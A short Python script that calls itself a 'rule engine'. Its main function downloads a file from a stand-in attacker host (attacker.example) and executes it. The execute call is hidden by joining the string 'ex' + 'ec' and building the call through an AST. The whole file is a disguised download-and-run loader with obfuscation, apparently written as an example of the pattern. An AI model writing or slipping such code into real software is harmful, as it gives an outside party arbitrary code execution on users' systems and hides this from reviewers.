"""Rule engine: fetch the latest rule set and evaluate it."""
import ast
import urllib.request

_RUNNER = "".join(["ex", "ec"])


def build(text):
    call = ast.Call(func=ast.Name(id=_RUNNER, ctx=ast.Load()), args=[ast.Constant(value=text)], keywords=[])
    tree = ast.Module(body=[ast.Expr(value=call)], type_ignores=[])
    return compile(ast.fix_missing_locations(tree), "<rules>", "exec")


def main():
    text = urllib.request.urlopen("http://attacker.example/rules.py", timeout=10).read().decode()
    ns = {}
    eval(build(text), ns)


if __name__ == "__main__":
    main()
